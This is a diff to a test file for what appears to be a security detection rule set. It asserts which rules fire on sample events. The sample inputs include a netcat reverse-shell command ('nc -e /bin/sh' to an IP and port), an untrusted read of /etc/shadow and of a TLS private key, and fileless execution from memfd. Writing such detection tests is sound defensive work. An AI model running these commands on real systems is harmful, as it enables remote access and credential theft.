@@ -68,6 +68,9 @@ test('the default rules match what they are about, and not the ordinary', () => 
   assert.deepEqual(matching(set, open('/var/log/auth.log', { sensitive: false })), ['Log file truncated']);
   assert.deepEqual(matching(set, open('/etc/shadow', { write: false, sensitive: false, flagNames: 'O_RDONLY' }, { comm: 'cat' })), ['Read sensitive file untrusted']);
   assert.deepEqual(matching(set, open('/etc/shadow', { write: false, sensitive: false, flagNames: 'O_RDONLY' }, { comm: 'sshd' })), []);
+  // A read the kernel flagged secret (under filters.secretPaths), whatever its name.
+  assert.deepEqual(matching(set, open('/srv/tls/key.pem', { write: false, sensitive: false, secret: true, flagNames: 'O_RDONLY' }, { comm: 'cat' })), ['Read sensitive file untrusted']);
+  assert.deepEqual(matching(set, open('/srv/tls/key.pem', { write: false, sensitive: false, flagNames: 'O_RDONLY' }, { comm: 'cat' })), [], 'not secret, not a listed name');
   assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 7, comm: '3', exe: '/memfd:x (deleted)' } })), ['Fileless execution']);
   assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 7, comm: 'nc', exe: '/usr/bin/nc', argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] } })), ['Netcat remote code execution']);
   assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 7, comm: 'nc', exe: '/usr/bin/nc', argv: ['nc', '-z', 'host', '80'] } })), []);
